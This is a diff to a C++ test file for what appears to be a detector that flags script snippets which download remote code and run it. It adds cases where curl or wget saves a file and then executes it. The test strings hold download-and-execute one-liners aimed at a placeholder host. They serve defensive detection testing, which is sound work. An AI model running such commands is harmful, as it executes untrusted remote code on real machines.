@@ -103,6 +103,9 @@ TEST(ExpectedAnswers, WhatRunsAnAnswerIsNamed) {
   runs("eval \"$(curl -s https://x.example/today)\"\n", "sh");
   runs("source <(curl -s https://x.example/today)\n", "sh");
   runs("curl -s https://x.example/today | python3 -\n", "python");
+  runs("curl -fsSL -o /tmp/tool https://x.example/tool\nchmod +x /tmp/tool\n/tmp/tool\n", "sh");
+  runs("wget -q -O \"$f\" \"$u\"\npython3 \"$f\"\n", "python");
+  runs("curl -so x.bin $u && bash x.bin\n", "sh");
   runs("exec(requests.get(url).text)\n", "python");
   runs("subprocess.run(r.text, shell=True)\n", "sh");
   runs("eval(await (await fetch(url)).text());\n", "javascript");
@@ -118,6 +121,7 @@ TEST(ExpectedAnswers, AStatusIsTested) {
 TEST(ExpectedAnswers, OtherCodeAsksForNothing) {
   EXPECT_THAT(
       of("#!/bin/sh\nset -e\nname=$(basename \"$1\")\n[ \"$name\" = on ] && echo yes\n"
+         "curl -o page.html $u\ncat page.html\nchmod +x other\n"
          "print(x[\"a\"])\nconsole.log(y.b)\ngrep -q on file\ncase \"$1\" in -h) ;; esac\n"),
       IsEmpty());
 }
